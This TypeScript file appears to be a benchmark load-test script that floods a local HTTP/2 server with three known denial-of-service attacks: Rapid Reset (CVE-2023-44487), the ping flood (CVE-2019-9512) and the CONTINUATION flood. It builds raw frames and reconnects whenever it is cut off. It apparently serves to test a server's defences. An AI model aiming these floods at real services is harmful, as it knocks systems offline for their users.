/**
 * One attacker: floods a port over one HTTP/2 connection as fast as it is let, and opens the next one
 * when it is cut off. `node bench/load/flood.ts KIND PORT TOKEN`; at SIGTERM it says what it did.
 *
 * It comes from another address than good callers, as attackers do.
 */
import { connect } from "node:net";
import type { Socket } from "node:net";
import { fileURLToPath } from "node:url";
import {
  FLAG,
  FRAME,
  fieldBlock,
  frame,
  opening,
  requestFields,
  retarget,
} from "./http2-frames.ts";

export const FLOODS = ["rapid-reset", "ping", "continuation"] as const;
export type FloodKind = (typeof FLOODS)[number];

export interface FloodReport {
  readonly connections: number;
  readonly bytes: number;
}

/** What it says once it floods. */
export const FLOODING = "flooding\n";
/** Marks the line of its report. */
const MARK = "sallyport-flood ";
/** Frames that are made ready and sent as one. */
const FRAMES = 256;
const FROM = "127.0.0.2";
const CANCEL = 0x8;

export function parseFloodReport(output: string): FloodReport {
  const line = output.split("\n").find((text) => text.startsWith(MARK));
  if (line === undefined) throw new Error(`the flood did not report:\n${output.slice(-2000)}`);
  return JSON.parse(line.slice(MARK.length)) as FloodReport;
}

/** Makes the bytes of a connection, a piece with each call; the first begins with the preface. */
export function floodBytes(kind: FloodKind, token: string): () => Buffer {
  const next = FLOOD_BYTES[kind](token);
  let first = true;
  return () => {
    const bytes = next();
    if (!first) return bytes;
    first = false;
    return Buffer.concat([opening(), bytes]);
  };
}

const FLOOD_BYTES: Readonly<Record<FloodKind, (token: string) => () => Buffer>> = {
  /** CVE-2023-44487: good requests, each called off at once, so that none is ever in flight. */
  "rapid-reset": (token) => {
    const head = frame({ type: FRAME.headers, flags: REQUEST, stream: 0 }, requestBlock(token));
    const reset = frame({ type: FRAME.rstStream, flags: 0, stream: 0 }, Buffer.of(0, 0, 0, CANCEL));
    const pair = Buffer.concat([head, reset]);
    let stream = 1;
    return () => {
      const bytes = Buffer.concat(Array.from({ length: FRAMES }, () => pair));
      for (let at = 0; at < bytes.length; at += pair.length, stream += 2) {
        retarget(bytes, at, stream);
        retarget(bytes, at + head.length, stream);
      }
      return bytes;
    };
  },
  /** CVE-2019-9512: each one owes an answer. */
  ping: () => {
    const ping = frame({ type: FRAME.ping, flags: 0, stream: 0 }, Buffer.alloc(8));
    const bytes = Buffer.concat(Array.from({ length: FRAMES }, () => ping));
    return () => bytes;
  },
  /** The CONTINUATION flood of 2024: a field block that has no end. */
  continuation: (token) => {
    const flags = FLAG.endStream;
    const head = frame({ type: FRAME.headers, flags, stream: 1 }, requestBlock(token));
    const more = frame(
      { type: FRAME.continuation, flags: 0, stream: 1 },
      fieldBlock(["x-filler", "y".repeat(200)]),
    );
    const rest = Buffer.concat(Array.from({ length: FRAMES }, () => more));
    let begun = false;
    return () => {
      if (begun) return rest;
      begun = true;
      return Buffer.concat([head, rest]);
    };
  },
};

const REQUEST = FLAG.endHeaders | FLAG.endStream;

function requestBlock(token: string): Buffer {
  const request = { method: "GET", path: "/billing/records/2026-1000", port: 80 };
  return fieldBlock(requestFields(request, ["authorization", `Bearer ${token}`]));
}

function flood(kind: FloodKind, port: number, token: string): void {
  let connections = 0;
  let before = 0;
  let socket: Socket;
  const open = (): void => {
    const next = floodBytes(kind, token);
    const current = connect({ port, host: "127.0.0.1", localAddress: FROM });
    socket = current;
    const send = (): void => {
      if (current.destroyed) return;
      if (current.write(next())) setImmediate(send);
      else current.once("drain", send);
    };
    current.once("connect", () => {
      if (connections === 0) process.stdout.write(FLOODING);
      connections += 1;
      send();
    });
    // What it is answered does not interest it.
    current.resume();
    current.on("error", () => {});
    current.once("end", () => current.destroy());
    current.once("close", () => {
      before += current.bytesWritten;
      setImmediate(open);
    });
  };
  open();
  process.once("SIGTERM", () => {
    const report: FloodReport = { connections, bytes: before + socket.bytesWritten };
    process.stdout.write(`${MARK}${JSON.stringify(report)}\n`, () => process.exit(0));
  });
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const [kind = "", port = "", token = ""] = process.argv.slice(2);
  const known = FLOODS.find((one) => one === kind);
  if (known === undefined) throw new TypeError(`floods: ${FLOODS.join(", ")}`);
  flood(known, Number(port), token);
}
